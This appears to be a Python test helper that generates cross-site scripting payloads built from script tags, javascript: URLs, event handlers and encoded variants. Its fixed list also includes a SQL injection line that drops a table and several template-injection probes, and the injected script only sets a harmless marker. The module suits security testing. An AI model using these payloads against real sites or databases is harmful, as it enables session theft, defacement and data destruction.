"""Texts that would be a script, or an order to a database, if anybody took them for one. All of our own making."""

from __future__ import annotations

from itertools import islice, product

CALL = "window.pwned=1"
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "math", "marquee", "p")
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpageshow", "onstart", "onbegin")
OPENINGS = ("", '">', "'>", "</script>", "-->", "</textarea>", "]]>", "{{", "`${")
WHOLE = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT>",
    f"<svg><script>{CALL}</script></svg>",
    f"javascript:{CALL}",
    f'<a href="javascript:{CALL}">x</a>',
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"<style>@import'javascript:{CALL}'</style>",
    f"<object data='data:text/html,<script>{CALL}</script>'>",
    f"<meta http-equiv=refresh content='0;javascript:{CALL}'>",
    f"<base href='javascript:{CALL}//'>",
    f"<form action='javascript:{CALL}'><button>x",
    f"\u202e<script>{CALL}</script>",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    "'; DROP TABLE rooms; --",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
)


def payloads(number: int) -> list[str]:
    """As many as asked for, the plainest first; all different."""
    made = (f"{opening}<{tag} {on}={CALL}>" for tag, on, opening in product(TAGS, HANDLERS, OPENINGS))
    return [*WHOLE[:number], *islice(made, max(0, number - len(WHOLE)))]
